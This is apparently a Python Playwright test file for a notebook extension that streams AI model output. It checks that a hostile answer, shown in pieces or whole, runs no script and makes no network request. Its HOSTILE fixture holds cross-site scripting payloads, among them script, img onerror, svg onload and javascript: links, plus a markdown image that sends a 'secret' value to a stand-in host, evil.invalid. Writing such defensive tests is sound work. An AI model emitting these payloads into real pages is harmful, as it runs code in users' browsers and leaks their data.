"""A model's output is untrusted: it runs nothing and fetches nothing."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import OpenNotebook
from tests.browser.lab import Frontend
from tests.browser.provider import ENDLESS, Provider
from tests.speaking import Speech

# The host is in nobody's hands, and each way in would ask it for something else.
EVIL = "http://evil.invalid"
HOSTILE = f"""
Words <script>window.ran = 1; fetch("{EVIL}/script")</script>
<img src="{EVIL}/tag" onerror="window.ran = 2"> <iframe src="{EVIL}/frame"></iframe>
![look]({EVIL}/image?q=secret) and ![this][ref] and [click](javascript:window.ran=3)
<svg onload="window.ran = 4"></svg> <link rel="stylesheet" href="{EVIL}/style">

[ref]: {EVIL}/reference

"""


@pytest.mark.parametrize("frontend", ["lab", "notebook"])
def test_a_hostile_answer_runs_nothing_and_fetches_nothing_while_it_streams(
    open_notebook: OpenNotebook, provider: Provider, frontend: Frontend
) -> None:
    # In small pieces, so that every half of a tag or link is shown at some time.
    pieces = [HOSTILE[at : at + 3] for at in range(0, len(HOSTILE), 3)]
    provider.speech = Speech(tokens=pieces + ENDLESS, tokens_per_s=200)
    notebook = open_notebook([provider.cell("--keep")], frontend=frontend)
    fetched: list[str] = []
    notebook.page.on("request", lambda request: fetched.append(request.url))
    notebook.run(0)
    expect(notebook.log(0)).to_contain_text("word5 ")
    expect(notebook.log(0)).to_contain_text("<script>")
    notebook.click_cancel(0)
    notebook.wait_until_run(0)
    expect(notebook.log(0).locator("img, script, iframe, svg[onload], link")).to_have_count(0)
    expect(notebook.log(0).locator("[href^=javascript]")).to_have_count(0)
    assert [url for url in fetched if EVIL in url] == []
    assert notebook.page.evaluate("window.ran") is None


@pytest.mark.parametrize("extension", [True, False], ids=["extension", "no-extension"])
def test_the_static_result_runs_nothing_and_fetches_nothing(
    open_notebook: OpenNotebook, provider: Provider, extension: bool
) -> None:
    provider.speech = Speech(tokens=[HOSTILE])
    notebook = open_notebook([provider.cell()], extension=extension)
    fetched: list[str] = []
    notebook.page.on("request", lambda request: fetched.append(request.url))
    notebook.run(0)
    notebook.wait_until_run(0)
    expect(notebook.output(0)).to_contain_text("Complete")
    ran = notebook.page.evaluate("window.ran")
    notebook.page.evaluate("() => { delete window.ran; }")
    assert ([url for url in fetched if EVIL in url], ran) == ([], None)
